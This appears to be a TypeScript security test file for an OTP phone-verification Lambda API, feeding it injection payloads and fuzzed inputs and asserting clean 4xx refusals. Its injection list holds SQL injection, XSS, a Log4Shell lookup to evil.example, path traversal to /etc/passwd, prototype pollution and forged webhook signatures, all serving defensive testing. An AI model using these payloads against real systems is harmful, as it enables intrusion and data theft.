import type { APIGatewayProxyEvent } from 'aws-lambda';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  answerParams,
  apiEvent,
  createHarness,
  type Harness,
  parse,
  startVerification,
  webhookEvent,
  wrongCodes,
} from '../support/harness.ts';

let h: Harness;
let id: string;
/** Codes that are never the pending verification's own, so no case could pass by guessing it. */
let wrong: string[];
let code: string;
let answerUrl: string;
let hangupUrl: string;

beforeAll(async () => {
  h = await createHarness();
  const started = await startVerification(h, '+14155550199');
  id = started.id;
  code = started.code;
  wrong = wrongCodes(code, 2);
  answerUrl = h.telephony.calls.at(-1)?.answerUrl ?? '';
  hangupUrl = h.telephony.calls.at(-1)?.hangupUrl ?? '';
});

type Route = 'send' | 'verify' | 'answer' | 'hangup';

const sendEvent = (options: Partial<Parameters<typeof apiEvent>[0]>) =>
  apiEvent({ method: 'POST', resource: '/v1/verifications', ...options });
const checkEvent = (options: Partial<Parameters<typeof apiEvent>[0]>) =>
  apiEvent({ method: 'POST', resource: '/v1/verifications/check', ...options });
const idEvent = (method: string, resource: string, pathId: string) =>
  apiEvent({ method, resource, path: resource.replace('{id}', pathId), pathParameters: { id: pathId } });

const injections = [
  "' OR '1'='1",
  '"; DROP TABLE verifications; --',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '$where',
  '%00',
  '\u0000',
  '+1415555\u00000123',
];

/** Every case must end in a 4xx JSON error, with nothing written and no call placed. */
const cases: Array<[string, Route, () => APIGatewayProxyEvent]> = [
  ...injections.map((value): [string, Route, () => APIGatewayProxyEvent] => [
    `phone ${JSON.stringify(value)}`,
    'send',
    () => sendEvent({ body: { phone: value } }),
  ]),
  ...injections.map((value): [string, Route, () => APIGatewayProxyEvent] => [
    `code ${JSON.stringify(value)}`,
    'verify',
    () => checkEvent({ body: { id, code: value } }),
  ]),
  ...injections.map((value): [string, Route, () => APIGatewayProxyEvent] => [
    `id ${JSON.stringify(value)}`,
    'verify',
    () => idEvent('GET', '/v1/verifications/{id}', value),
  ]),
  ...injections
    .slice(0, 5)
    .map((value): [string, Route, () => APIGatewayProxyEvent] => [
      `locale ${JSON.stringify(value)}`,
      'send',
      () => sendEvent({ body: { phone: '+14155550123', locale: value } }),
    ]),
  [
    '__proto__ key',
    'send',
    () => sendEvent({ rawBody: '{"phone":"+14155550123","__proto__":{"admin":true}}' }),
  ],
  [
    'constructor.prototype key',
    'send',
    () => sendEvent({ rawBody: '{"phone":"+14155550123","constructor":{"prototype":{"admin":true}}}' }),
  ],
  [
    '__proto__ in check',
    'verify',
    () => checkEvent({ rawBody: `{"id":"${id}","code":"${wrong[0]}","__proto__":{"valid":true}}` }),
  ],
  [
    'prototype key in check',
    'verify',
    () => checkEvent({ rawBody: `{"id":"${id}","code":"${wrong[0]}","prototype":1}` }),
  ],
  ['newline in phone', 'send', () => sendEvent({ body: { phone: '+1415\n5550123' } })],
  [
    'CRLF in locale',
    'send',
    () => sendEvent({ body: { phone: '+14155550123', locale: 'en-US\r\nX-Injected: 1' } }),
  ],
  ['tab in code', 'verify', () => checkEvent({ body: { id, code: '123\t456' } })],
  ['NUL in code', 'verify', () => checkEvent({ body: { id, code: '123\u0000456' } })],
  ['bidi override in phone', 'send', () => sendEvent({ body: { phone: '\u202e+14155550123' } })],
  ['1 MB phone', 'send', () => sendEvent({ body: { phone: `+1${'9'.repeat(1024 * 1024)}` } })],
  ['1000-char code', 'verify', () => checkEvent({ body: { id, code: '1'.repeat(1000) } })],
  [
    '10k-char locale',
    'send',
    () => sendEvent({ body: { phone: '+14155550123', locale: 'x'.repeat(10_000) } }),
  ],
  ['deeply nested body', 'send', () => sendEvent({ rawBody: `${'['.repeat(5000)}${']'.repeat(5000)}` })],
  [
    'overlong UTF-8 plus sign',
    'send',
    () => ({
      ...sendEvent({
        rawBody: Buffer.concat([
          Buffer.from('{"phone":"'),
          Buffer.from([0xc0, 0xab]),
          Buffer.from('14155550123"}'),
        ]).toString('base64'),
      }),
      isBase64Encoded: true,
    }),
  ],
  [
    'UTF-16 body',
    'send',
    () => ({
      ...sendEvent({ rawBody: Buffer.from('{"phone":"+14155550123"}', 'utf16le').toString('base64') }),
      isBase64Encoded: true,
    }),
  ],
  ['percent-encoded plus', 'send', () => sendEvent({ body: { phone: '%2B14155550123' } })],
  ['full-width plus', 'send', () => sendEvent({ body: { phone: '＋14155550123' } })],
  ['formatted number', 'send', () => sendEvent({ body: { phone: '+1 (415) 555-0123' } })],
  ['number as exponent', 'send', () => sendEvent({ rawBody: '{"phone":1.4155550123e10}' })],
  [
    'duplicate phone keys',
    'send',
    () => sendEvent({ rawBody: '{"phone":"+14155550123","phone":"+33612345678"}' }),
  ],
  [
    'duplicate code keys',
    'verify',
    () => checkEvent({ rawBody: `{"id":"${id}","code":"${wrong[0]}","code":"${wrong[1]}"}` }),
  ],
  [
    'duplicate keys via escapes',
    'verify',
    () => checkEvent({ rawBody: `{"id":"${id}","code":"${wrong[0]}","\\u0063ode":"${wrong[1]}"}` }),
  ],
  [
    'charset utf-16 header',
    'send',
    () =>
      sendEvent({
        body: { phone: '+14155550123' },
        headers: { 'Content-Type': 'application/json; charset=utf-16' },
      }),
  ],
  [
    'two content types',
    'send',
    () =>
      sendEvent({
        body: { phone: '+14155550123' },
        headers: { 'Content-Type': 'text/plain, application/json' },
      }),
  ],
  [
    'JSON as text/html',
    'verify',
    () => checkEvent({ body: { id, code: wrong[0] }, headers: { 'Content-Type': 'text/html' } }),
  ],
  ['missing API key', 'send', () => sendEvent({ body: { phone: '+14155550123' }, apiKeyId: null })],
  ['empty API key id', 'verify', () => checkEvent({ body: { id, code: wrong[0] }, apiKeyId: '' })],
  [
    'method override header',
    'verify',
    () => ({
      ...idEvent('DELETE', '/v1/verifications/{id}', id),
      headers: { 'X-HTTP-Method-Override': 'GET' },
    }),
  ],
  [
    'cancel with a path traversal id',
    'verify',
    () => idEvent('POST', '/v1/verifications/{id}/cancel', `${id}/../x`),
  ],
  [
    'answer without signature',
    'answer',
    () => webhookEvent(answerUrl, answerParams('a'), { signature: null }),
  ],
  [
    'answer with 1000 bogus signatures',
    'answer',
    () => webhookEvent(answerUrl, answerParams('a'), { signature: Array(1000).fill('AAAA').join(',') }),
  ],
  [
    'answer with an empty nonce',
    'answer',
    () => webhookEvent(answerUrl, answerParams('a'), { nonce: '', signature: 'AAAA' }),
  ],
  [
    'answer with a JSON body',
    'answer',
    () => ({
      ...webhookEvent(answerUrl, {}),
      body: '{"Digits":"1"}',
      headers: { 'Content-Type': 'application/json' },
    }),
  ],
  [
    'answer signed for another token',
    'answer',
    () => webhookEvent(answerUrl, answerParams('a'), { authToken: 'x' }),
  ],
  [
    'hangup forged to mark approved',
    'hangup',
    () =>
      webhookEvent(
        hangupUrl,
        { CallUUID: 'x', CallStatus: 'completed', status: 'approved' },
        { authToken: 'x' },
      ),
  ],
  [
    'hangup with an oversized body',
    'hangup',
    () => ({ ...webhookEvent(hangupUrl, {}), body: `CallUUID=${'x'.repeat(20_000)}` }),
  ],
  [
    'hangup for another id, signature replayed',
    'hangup',
    () => {
      const event = webhookEvent(hangupUrl, { CallUUID: 'u', CallStatus: 'busy' });
      return {
        ...event,
        multiValueQueryStringParameters: { v: ['vrf_00000000000000000000000000'] },
        queryStringParameters: { v: 'vrf_00000000000000000000000000' },
      };
    },
  ],
];

const handlers = (route: Route) =>
  ({ send: h.send, verify: h.verify, answer: h.answer, hangup: h.hangup })[route];

describe('adversarial requests', () => {
  it('number at least 50', () => {
    expect(cases.length).toBeGreaterThanOrEqual(50);
  });

  it.each(cases)('%s → 4xx, nothing written', async (_name, route, event) => {
    const before = await h.scan();
    const calls = h.telephony.calls.length;
    const response = await handlers(route)(event());
    expect(response.statusCode).toBeGreaterThanOrEqual(400);
    expect(response.statusCode).toBeLessThan(500);
    expect(parse(response)).toEqual({
      error: { code: expect.stringMatching(/^[a-z_]+$/), message: expect.any(String) },
    });
    expect(await h.scan()).toEqual(before);
    expect(h.telephony.calls.length).toBe(calls);
  });

  it('left the prototype of plain objects alone', () => {
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
    expect(({} as Record<string, unknown>).valid).toBeUndefined();
  });
});

describe('property-based fuzzing', () => {
  const anyValue = fc.oneof(
    fc.string({ maxLength: 40 }),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.jsonValue({ maxDepth: 2 }),
  );
  const phoneLike = fc.oneof(
    fc.stringMatching(/^\+?[0-9 ()-]{0,18}$/),
    fc.string({ maxLength: 20 }),
    fc.constantFrom('+14155550123', '+19005550199', '+252612345678', '+33612345678'),
  );
  // Never the pending verification's code, however it is spaced.
  const codeLike = fc
    .oneof(fc.stringMatching(/^[0-9 -]{0,12}$/), fc.string({ maxLength: 14 }), anyValue)
    .filter((value) => typeof value !== 'string' || value.replace(/[ -]/g, '') !== code);
  const contentType = fc.constantFrom(
    'application/json',
    'application/json; charset=utf-8',
    'text/plain',
    'application/x-www-form-urlencoded',
    'application/json; charset=latin1',
  );
  const body = (fields: fc.Arbitrary<Record<string, unknown>>) =>
    fc.oneof(
      { weight: 4, arbitrary: fields.map((value) => JSON.stringify(value)) },
      { weight: 1, arbitrary: fc.json({ maxDepth: 3 }) },
      { weight: 1, arbitrary: fc.string({ maxLength: 60 }) },
    );

  /** Never a 5xx; a refusal writes nothing and calls no one. */
  async function holds(route: Route, event: APIGatewayProxyEvent) {
    const before = await h.scan();
    const calls = h.telephony.calls.length;
    const response = await handlers(route)(event);
    expect(response.statusCode).toBeLessThan(500);
    if (response.statusCode >= 400) {
      expect(parse(response).error).toBeDefined();
      expect(await h.scan()).toEqual(before);
      expect(h.telephony.calls.length).toBe(calls);
    }
  }

  it('send', async () => {
    await fc.assert(
      fc.asyncProperty(
        body(
          fc.record(
            {
              phone: phoneLike,
              locale: fc.oneof(fc.constantFrom('en-US', 'fr-fr', 'xx'), anyValue),
              extra: anyValue,
            },
            { requiredKeys: [] },
          ),
        ),
        contentType,
        (raw, type) => holds('send', sendEvent({ rawBody: raw, headers: { 'Content-Type': type } })),
      ),
      { numRuns: 120 },
    );
  });

  it('check', async () => {
    await fc.assert(
      fc.asyncProperty(
        body(
          fc.record(
            {
              id: fc.oneof(fc.constant(id), fc.string({ maxLength: 40 }), anyValue),
              phone: phoneLike,
              code: codeLike,
            },
            { requiredKeys: [] },
          ),
        ),
        contentType,
        (raw, type) => holds('verify', checkEvent({ rawBody: raw, headers: { 'Content-Type': type } })),
      ),
      { numRuns: 120 },
    );
  });

  it('status and cancel', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          'GET /v1/verifications/{id}',
          'POST /v1/verifications/{id}/cancel',
          'PUT /v1/verifications/{id}',
        ),
        fc.oneof(fc.string({ maxLength: 40 }), fc.stringMatching(/^vrf_[0-9A-Z]{20,30}$/)),
        (route, pathId) => {
          const [method = 'GET', resource = ''] = route.split(' ');
          return holds('verify', idEvent(method, resource, pathId));
        },
      ),
      { numRuns: 120 },
    );
  });

  it('answer and hangup, signed or not', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<Route>('answer', 'hangup'),
        fc.dictionary(
          fc.constantFrom(
            'CallUUID',
            'Digits',
            'CallStatus',
            'Duration',
            'BillDuration',
            'TotalCost',
            'HangupCauseName',
            'Machine',
            'x',
          ),
          fc.string({ maxLength: 30 }),
        ),
        fc.record(
          {
            v: fc.oneof(fc.constant(id), fc.string({ maxLength: 30 })),
            t: fc.string({ maxLength: 40 }),
            s: fc.string({ maxLength: 8 }),
            r: fc.string({ maxLength: 4 }),
          },
          { requiredKeys: [] },
        ),
        fc.boolean(),
        async (route, params, query, signed) => {
          const url = `https://otp.example.test/prod/v1/plivo/${route}?${new URLSearchParams(query)}`;
          const event = webhookEvent(url, params, signed ? {} : { authToken: 'forged' });
          const response = await handlers(route)(event);
          expect(response.statusCode).toBeLessThan(500);
          if (!signed) expect(response.statusCode).toBe(403);
        },
      ),
      { numRuns: 150 },
    );
  });
});
